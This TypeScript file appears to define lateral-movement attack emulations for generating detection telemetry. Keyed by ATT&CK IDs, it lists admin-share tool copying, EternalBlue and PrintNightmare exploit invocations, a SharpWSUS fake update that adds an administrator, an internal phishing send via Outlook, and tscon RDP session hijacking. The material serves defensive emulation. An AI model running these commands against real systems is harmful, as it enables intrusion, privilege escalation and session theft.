import { remoteLogon, t, v, localPsExec } from "../dsl";

const netLogon = (session: string, auth: "Kerberos" | "NTLM" = "Kerberos") => remoteLogon(session, auth);

/** Lateral movement: remote execution and remote sessions between the estate's hosts. (continued) */
export const lateralMovementB = [
  t("T1570", "Lateral tool transfer", "Tools copied to remote admin shares or pulled over SMB.", [
    v(
      "copy-admin-share",
      [
        {
          cmd: "cmd.exe /c copy {{tools}}\\{{name}}.exe \\\\{{srv}}\\C$\\Windows\\Temp\\{{name}}.exe",
          net: [["@server", 445]],
          then: [
            ...netLogon("copy"),
            {
              id: "s",
              kind: "share.access",
              host: "@server",
              session: "copy",
              share: "C$",
              relativeTarget: "Windows\\Temp\\{{name}}.exe",
              accessMask: "0x2",
            },
            {
              id: "w",
              kind: "file.create",
              host: "@server",
              proc: "@system",
              path: "C:\\Windows\\Temp\\{{name}}.exe",
            },
          ],
        },
      ],
      { user: "@admin" },
    ),
    v(
      "copy-item-psdrive",
      [
        {
          ps: "Copy-Item -Path C:\\ProgramData\\{{rand}}.dll -Destination \\\\{{srv}}\\ADMIN$\\Temp\\",
          net: [["@server", 445]],
          then: [
            ...netLogon("ci"),
            {
              id: "s",
              kind: "share.access",
              host: "@server",
              session: "ci",
              share: "ADMIN$",
              relativeTarget: "Temp\\{{rand}}.dll",
              accessMask: "0x2",
            },
          ],
        },
      ],
      { shell: "ps", user: "@admin" },
    ),
    v("bitsadmin-smb", [
      {
        cmd: "bitsadmin /transfer x \\\\{{ws2}}\\C$\\Users\\Public\\{{name}}.exe C:\\Users\\Public\\{{name}}.exe",
        net: [["@workstation2", 445]],
      },
    ]),
  ]),
  t("T1210", "Remote services exploit", "A public exploit (EternalBlue, PrintNightmare) against a server.", [
    v("eternalblue", [
      { cmd: "{{tools}}\\eternalblue.exe --TargetIp {{srvip}} --TargetPort 445", net: [["@server", 445]] },
    ]),
    v("printnightmare", [
      {
        cmd: "{{tools}}\\CVE-2021-1675.exe \\\\{{srv}} \\\\{{meip}}\\share\\{{rand}}.dll",
        net: [["@server", 445]],
        pipeConnects: ["\\spoolss"],
      },
    ]),
    // From a compromised WSUS server, SharpWSUS publishes a fake update wrapping signed PsExec and approves it
    // for one target; the target's Windows Update client then runs it as SYSTEM.
    v(
      "sharpwsus",
      [
        { cmd: "{{tools}}\\SharpWSUS.exe inspect", net: [["127.0.0.1", 8530]] },
        {
          cmd: '{{tools}}\\SharpWSUS.exe create /payload:"{{tools}}\\PsExec64.exe" /args:"-accepteula -s -d cmd.exe /c \\"net localgroup administrators {{domain}}\\{{user}} /add\\"" /title:"Security Update KB50{{n}}"',
          net: [["127.0.0.1", 8530]],
        },
        {
          cmd: '{{tools}}\\SharpWSUS.exe approve /updateid:{{$guid}} /computername:{{ws2}}.{{dns}} /groupname:"Patch Ring {{n}}"',
          net: [["127.0.0.1", 8530]],
        },
        { cmd: "{{tools}}\\SharpWSUS.exe check /updateid:{{$guid}} /computername:{{ws2}}.{{dns}}" },
      ],
      {
        elevated: true,
        vars: { guid: "{{rand2}}-93c4-4f2e-{{8a1d|b7c3|e5f0}}-{{rand}}{{rand}}" },
        needs: ["the host is the WSUS server"],
      },
    ),
  ]),
  t("T1534", "Internal spearphishing", "A lure sent from a compromised internal mailbox.", [
    v(
      "outlook-send",
      [
        {
          ps: "$o = New-Object -ComObject Outlook.Application; $m = $o.CreateItem(0); $m.To = 'finance@{{dns}}'; $m.Subject = 'Updated invoice'; $m.Attachments.Add(\"$env:TEMP\\Invoice.zip\"); $m.Send()",
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1563", "Remote service session hijacking", "An existing RDP session taken over.", [
    v("tscon", ["tscon 2 /dest:console"], { elevated: true }),
  ]),
  t(
    "T1563.002",
    "RDP hijacking",
    "tscon run as SYSTEM (via a service or PsExec) to take over another user's session.",
    [
      v(
        "tscon-service",
        [
          { cmd: 'sc create sesshijack binpath= "cmd.exe /k tscon 2 /dest:rdp-tcp#0"' },
          "net start sesshijack",
          // The service's binary is the cmd /k line; it runs tscon.
          { cmd: "cmd.exe /k tscon 2 /dest:rdp-tcp#0", parent: "@services", user: "@system", as: "svc" },
          { cmd: "tscon  2 /dest:rdp-tcp#0", parent: "svc" },
        ],
        { elevated: true },
      ),
      // PsExec's local PSEXESVC service runs the SYSTEM cmd that calls tscon.
      v(
        "psexec-tscon",
        [
          ...localPsExec("{{tools}}\\PsExec.exe -s -accepteula cmd /c tscon 3 /dest:console"),
          { cmd: "cmd /c tscon 3 /dest:console", parent: "pss", as: "c" },
          { cmd: "tscon  3 /dest:console", parent: "c" },
        ],
        { elevated: true },
      ),
    ],
  ),
];
